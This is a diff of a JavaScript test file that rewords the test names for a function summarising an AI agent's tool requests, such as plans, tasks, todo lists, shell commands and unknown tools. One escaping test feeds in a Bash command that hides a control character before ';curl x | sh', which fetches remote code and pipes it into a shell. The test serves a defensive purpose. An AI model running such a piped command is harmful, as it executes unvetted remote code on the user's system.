@@ -34,7 +34,7 @@ describe('summarizeRequest', () => {
     });
   });
 
-  it('shows the first line of a plan without its marks', () => {
+  it('shows the first line of a plan without Markdown marks', () => {
     assert.deepEqual(
       summarizeRequest('ExitPlanMode', { plan: '\n---\n## **Move** to `pnpm`\n1. x' }),
       {
@@ -44,7 +44,7 @@ describe('summarizeRequest', () => {
     );
   });
 
-  it('shows which task is made and what becomes of one', () => {
+  it('shows which task is created and how one is changed', () => {
     const subject = 'Announce the month';
     assert.deepEqual(summarizeRequest('TaskCreate', { subject, description: 'For readers' }), {
       kind: 'text',
@@ -59,7 +59,7 @@ describe('summarizeRequest', () => {
     assert.equal(summarizeRequest('TaskUpdate', { addBlocks: ['4'] }), undefined);
   });
 
-  it('shows the item of a list that is being done', () => {
+  it('shows the item of a list that is in progress', () => {
     const todo = { content: 'Run the tests', status: 'in_progress' };
     const todos = [{ content: 'Read', status: 'completed' }, todo];
     assert.deepEqual(summarizeRequest('TodoWrite', { todos }), {
@@ -71,20 +71,20 @@ describe('summarizeRequest', () => {
     assert.equal(summarizeRequest('TodoWrite', { todos: [] }), undefined);
   });
 
-  it('shows the input of a tool it does not know as data', () => {
+  it('shows the input of an unknown tool as data', () => {
     assert.deepEqual(summarizeRequest('mcp__jira__move', { issue: 'A-1' }), {
       kind: 'code',
       text: '{"issue":"A-1"}',
     });
   });
 
-  it('marks terminal sequences, and takes nothing along', () => {
+  it('escapes terminal sequences and keeps the text after them', () => {
     const command = 'npm test \u009D;curl x | sh';
     assert.equal(summarizeRequest('Bash', { command })?.text, 'npm test ⟨U+009D⟩;curl x | sh');
   });
 
   for (const input of [undefined, null, 'text', 7, [], {}, { questions: 'no' }]) {
-    it(`has nothing to say about ${JSON.stringify(input)}`, () => {
+    it(`is undefined for ${JSON.stringify(input)}`, () => {
       assert.equal(summarizeRequest('AskUserQuestion', input), undefined);
       assert.equal(summarizeRequest('ExitPlanMode', input), undefined);
     });
